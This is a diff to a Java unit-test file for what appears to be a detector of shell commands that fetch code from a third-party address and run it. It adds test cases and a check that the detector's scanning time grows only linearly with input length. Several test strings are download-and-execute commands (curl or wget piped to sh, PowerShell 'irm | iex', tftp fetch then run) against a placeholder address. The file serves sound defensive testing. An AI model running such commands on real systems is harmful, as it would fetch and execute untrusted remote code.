@@ -18,6 +18,12 @@ import org.junit.jupiter.params.provider.ValueSource;
 
 /** Copies that send no body: the target is made to load it from a third host. */
 class RemoteFetchTest {
+    /** Longer than what is read of a command, so that what grows faster than the text shows. */
+    private static final int TEXT_CHARS = 16_384;
+
+    /** Ten patterns look at each character some times each. */
+    private static final long READS_PER_CHAR = 150L;
+
     private final ReplicationStory story = new ReplicationStory();
 
     private static RemoteFetch of(String command) {
@@ -47,6 +53,11 @@ class RemoteFetchTest {
                 "tftp -g -r w 198.51.100.7 && ./w",
                 "powershell -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\"",
                 "curl -6 http://[2001:db8::7]/w | python3",
+                "curl -so w http://198.51.100.7/w\nchmod +x w\n./w",
+                "cd /tmp\nwget 198.51.100.7/w -O /tmp/w\n  sudo nohup /tmp/w &",
+                "curl -s http://198.51.100.7/w |\n  /usr/bin/env python3.11",
+                "curl -s https://example.com/motd; wget -qO- http://198.51.100.7/w | /bin/sh",
+                "powershell irm http://198.51.100.7/a | iex",
             })
     void programsThatAreLoadedFromAnAddressAndRunAreSeen(String command) {
         assertEquals(RemoteFetch.ADDRESS, of(command), command);
@@ -60,6 +71,8 @@ class RemoteFetchTest {
                 "curl -o /srv/data.json https://api.example.com/data",
                 "wget -q https://example.com/motd -O /etc/motd",
                 "/bin/sh -c 'python3 module.py'",
+                "docker exec web update-firmware --confirm",
+                "curl -s http://198.51.100.7/health\nsystemctl restart app",
             })
     void otherCommandsAreNot(String command) {
         assertEquals(RemoteFetch.NONE, of(command), command);
@@ -69,6 +82,93 @@ class RemoteFetchTest {
     void anInstallerNamesItsSource() {
         assertEquals(RemoteFetch.NAMED, of("curl -fsSL https://get.example.com | sh"));
         assertEquals(RemoteFetch.NAMED, of("curl -s http://10.9.1.1:8500/join | sh"), "from the target itself");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "ping -c1 198.51.100.9 && curl -fsSL https://get.example.com | sh",
+                "export https_proxy=http://198.51.100.9:3128; curl -fsSL https://get.example.com | sh",
+                "curl -fsSL https://get.example.com | sh -s -- --server 198.51.100.9",
+                "curl -fsSLo i https://get.example.com\nchmod +x i\n./i --join 198.51.100.9",
+            })
+    void onlyWhatIsLoadedIsLookedAtForAddresses(String command) {
+        assertEquals(RemoteFetch.NAMED, of(command), command);
+    }
+
+    @Test
+    void theHostThatOneJumpsOverIsNotWhatIsLoaded() {
+        ProcessImage jump = ProcessImage.ofExe("/usr/bin/ssh")
+                .withArgs(List.of("ssh", "-J", "198.51.100.9", "web7", "curl https://get.example.com | sh"));
+        assertEquals(RemoteFetch.NAMED, RemoteFetch.of(jump, "web7"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "curl|/",
+                "curl|/curl",
+                "curl |/a/a/a;",
+                ";sudo ",
+                "curl;/x",
+                "|sudo sudo\t",
+                "| ",
+                "\n",
+                "curl\n ",
+                ")",
+                ") ",
+                "\"' )",
+                "irm|",
+                "irm | ",
+                "exec irm ",
+                "exec",
+                "eval ",
+                "certutil-urlcache",
+                "certutil ",
+                "mshta ",
+                "/",
+                " ",
+                "\u0301",
+            })
+    void whatAnAttackerWritesIsReadInProportionToItsLength(String piece) {
+        for (String before : List.of("", "curl ", "curl|", "curl;sudo", "certutil ", "exec ", "irm|", "mshta")) {
+            CountedText text = new CountedText(before + piece.repeat(TEXT_CHARS / piece.length()));
+            RemoteFetch.loadedAndRun(text);
+            assertTrue(
+                    text.reads < READS_PER_CHAR * text.length(),
+                    () -> "'" + before + piece + "': " + text.reads + " reads of " + text.length());
+        }
+    }
+
+    /** A text that counts how often its characters are looked at. */
+    private static final class CountedText implements CharSequence {
+        private final String text;
+        private long reads;
+
+        CountedText(String text) {
+            this.text = text;
+        }
+
+        @Override
+        public int length() {
+            return text.length();
+        }
+
+        @Override
+        public char charAt(int index) {
+            reads++;
+            return text.charAt(index);
+        }
+
+        @Override
+        public CharSequence subSequence(int start, int end) {
+            return text.substring(start, end);
+        }
+
+        @Override
+        public String toString() {
+            return text;
+        }
     }
 
     @Test
